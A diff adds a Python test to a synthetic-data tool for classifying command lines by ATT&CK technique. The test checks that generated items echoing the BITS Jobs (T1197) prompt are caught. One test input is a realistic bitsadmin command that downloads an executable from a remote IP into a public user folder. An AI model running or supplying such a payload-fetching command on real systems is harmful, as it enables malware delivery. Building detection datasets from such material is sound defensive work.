@@ -121,3 +121,12 @@ def test_training_takes_synthetic_rows_and_refuses_unmarked_ones(tmp_path, data_
     r = cli("train", "--task", "cmdlines", "--labelled", train, "--seed-size", "300", "--teacher", "none",
             "--out", tmp_path / "x", "--synthetic", unmarked, check=False)
     assert r.returncode != 0 and "synthetic:" in r.stderr
+
+
+def test_items_that_echo_the_prompt_are_caught():
+    from smallworld.synth import echoes_prompt
+
+    e = [x for x in load_taxonomy(load_task("cmdlines")) if x.id == "T1197"][0]
+    assert echoes_prompt("BITS Jobs (T1197): bitsadmin /create, /addfile to download and run a payload", e)
+    assert echoes_prompt("bitsadmin /create, /addfile, /SetNotifyCmdLine, /resume", e)
+    assert not echoes_prompt("bitsadmin /transfer upd /download /priority foreground http://91.2.3.4/a.exe C:\\Users\\Public\\a.exe", e)
